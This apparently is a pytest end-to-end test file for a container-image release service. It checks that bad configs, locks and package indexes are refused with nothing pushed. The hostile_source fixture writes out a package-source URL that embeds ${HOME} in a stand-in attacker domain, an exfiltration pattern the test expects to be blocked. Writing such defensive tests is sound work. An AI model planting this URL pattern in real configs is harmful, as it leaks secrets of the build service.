"""Bad input of every kind: each ends in a clear answer and a stored run, with nothing half done."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
import yaml

from tests.e2e.refusals import release
from tests.sandbox.index import Fault
from tests.sandbox.town import HUB_REPO, SOURCE_REPO, Town

pytestmark = [pytest.mark.github, pytest.mark.registry]


def read_config(town: Town) -> dict[str, Any]:
    """The source repository's config."""
    config: dict[str, Any] = yaml.safe_load(town.github.file_text(SOURCE_REPO, ".hublish.yaml"))
    return config


def changed(town: Town, **changes: Any) -> dict[str, str]:
    """The config with changes."""
    return {".hublish.yaml": yaml.safe_dump({**read_config(town), **changes}, sort_keys=False)}


def text(body: str) -> Callable[[Town], dict[str, Any]]:
    """A change that makes the config this text."""
    return lambda _town: {".hublish.yaml": body}


CONFIGS = {
    "tabs": (text("version: 1\nimage:\n\tname: x\n"), "ConfigInvalid", "tab"),
    "duplicate key": (
        text("version: 1\nversion: 1\nimage: {name: a.example.org/team/ts}\n"),
        "ConfigInvalid",
        "stands here again",
    ),
    "alias": (text("version: 1\nimage: &a {name: a.example.org/team/ts}\nimages: [*a]\n"), "ConfigInvalid", "alias"),
    "10 MB": (text("version: 1\n" + "# x\n" * 2_500_000), "SourceInvalid", "at most 1048576 are read"),
    "unknown key": (lambda town: changed(town, strategi="layered"), "ConfigInvalid", "strategy"),
    "escaping path": (
        lambda town: changed(town, python={"lock": "../Pipfile.lock"}),
        "ConfigInvalid",
        "leaves the repository",
    ),
    "unlisted registry": (
        lambda town: changed(town, image={"name": "quay.example.org/team/ts", "tags": ["{release}"]}),
        "NotAllowed",
        "the registry quay.example.org is not in this service's settings",
    ),
    "unlisted owner": (
        lambda town: changed(town, image={"name": f"{town.registry.host}/other/ts", "tags": ["{release}"]}),
        "NotAllowed",
        "octocat may not push to",
    ),
    "dockerfile": (lambda _town: {"Dockerfile": "FROM scratch\n"}, "StrategyUnavailable", "hublish doctor"),
    "source": (
        lambda town: changed(town, strategy="source", base=f"{town.registry.host}/base/python:3.11"),
        "StrategyUnavailable",
        "hublish doctor",
    ),
}


@pytest.mark.parametrize("name", CONFIGS)
def test_bad_config_is_answered_and_nothing_is_pushed(town: Town, name: str) -> None:
    """A config that cannot be used ends in an answer that names the fault."""
    make, code, part = CONFIGS[name]

    answer = release(town, make(town))

    assert code in answer
    assert part in answer
    assert town.registry.tags("team/ts") == ()
    assert town.github.pull_requests(HUB_REPO) == []


def stale(town: Town) -> dict[str, Any]:
    """A Pipfile that changed after it was locked."""
    return {
        "Pipfile": town.github.file_text(SOURCE_REPO, "Pipfile")
        + '\n[scripts]\nx = "y"\n[packages.more]\nversion = "*"\n'
    }


def wrong_hash(town: Town) -> dict[str, Any]:
    """A lock with a hash that no file has."""
    lock = json.loads(town.github.file_text(SOURCE_REPO, "Pipfile.lock"))
    lock["default"]["six"]["hashes"] = ["sha256:" + "0" * 64]
    return {"Pipfile.lock": json.dumps(lock, indent=4)}


def gone(town: Town) -> dict[str, Any]:
    """A file that the index lists and no longer serves."""
    town.index.remove("six", "1.16.0")
    return {}


def other_bytes(town: Town) -> dict[str, Any]:
    """An index that serves other bytes than the lock's hash."""
    town.index.add_fault(Fault(path_regex=r"six-1\.16\.0.*\.whl", times=99, body=b"PK other bytes"))
    return {}


def hostile_source(town: Town) -> dict[str, Any]:
    """A source whose URL asks for a secret of the service."""
    files = town.make_source_files()
    url = "https://index.example.invalid/simple"
    hostile = "https://${HOME}.attacker.example.org/simple"
    pipfile = files["Pipfile"].replace(url, hostile)
    import io

    import plette

    lock = json.loads(files["Pipfile.lock"].replace(url, hostile))
    lock["_meta"]["hash"]["sha256"] = plette.Pipfile.load(io.StringIO(pipfile)).get_hash().value
    return {"Pipfile": pipfile, "Pipfile.lock": json.dumps(lock, indent=4)}


LOCKS = {
    "stale": (stale, "pipenv lock"),
    "wrong hash": (wrong_hash, "six"),
    "missing file": (gone, "six"),
    "other bytes": (other_bytes, "expected sha256"),
    "hostile source": (hostile_source, "NotAllowed"),
}


@pytest.mark.parametrize("name", LOCKS)
def test_bad_lock_or_index_is_answered_and_nothing_is_tagged(town: Town, name: str) -> None:
    """A lock or index that cannot be trusted ends in an answer that names what is wrong."""
    make, part = LOCKS[name]

    answer = release(town, make(town))

    assert answer.startswith("**Not delivered:**")
    assert part in answer
    assert town.registry.tags("team/ts") == ()


def test_missing_lock_names_the_command(town: Town) -> None:
    """A Pipfile without a lock is answered with the command that makes one."""
    answer = release(town, {}, delete=("Pipfile.lock",))

    assert answer.startswith("**Not delivered:**")
    assert "pipenv lock" in answer


def test_yanked_package_is_built_with_a_remark(town: Town) -> None:
    """A pinned package that was yanked is still installed, as pip does, and the answer says so."""
    town.index.yank("six", "1.16.0", "broken metadata")

    answer = release(town, {})

    assert answer.startswith("**Delivered:**")
    assert "six 1.16.0 was yanked from the index (broken metadata); the lock pins it, so it is used" in answer


def test_index_that_fails_twice_is_waited_out(town: Town) -> None:
    """An index that answers 500 and is slow for a while does not fail a build."""
    town.index.add_fault(Fault(path_regex="six", times=2, status=500))
    town.index.add_fault(Fault(path_regex="six", times=1, delay_seconds=1.0))

    assert release(town, {}).startswith("**Delivered:**")


def test_unknown_tag_in_an_issue_is_answered_and_the_issue_stays_open(town: Town) -> None:
    """An issue that asks for a tag that does not exist gets an answer and stays open."""
    number = town.github.open_issue(SOURCE_REPO, "Deliver Container Image", body="Tag: v9.9\n")
    town.wait_for_runs()
    (comment,) = town.github.comments(SOURCE_REPO, number)

    assert comment["body"].startswith("**Not delivered:** `v9.9`")
    assert town.github.issue(SOURCE_REPO, number)["state"] == "open"


def test_delivered_issue_is_closed(town: Town) -> None:
    """An issue that asks for a tag is answered and closed once its image is delivered."""
    town.github.create_tag(SOURCE_REPO, "v0.1")
    body = "Hey, AICoE-CI!\r\n\r\nPlease build and deliver the following git tag:\r\n\r\nTag: v0.1\r\n"
    number = town.github.open_issue(SOURCE_REPO, "Deliver Container Image", body=body)
    town.wait_for_runs()
    (comment,) = town.github.comments(SOURCE_REPO, number)

    assert comment["body"].startswith("**Delivered:** `v0.1`")
    assert town.github.issue(SOURCE_REPO, number)["state"] == "closed"
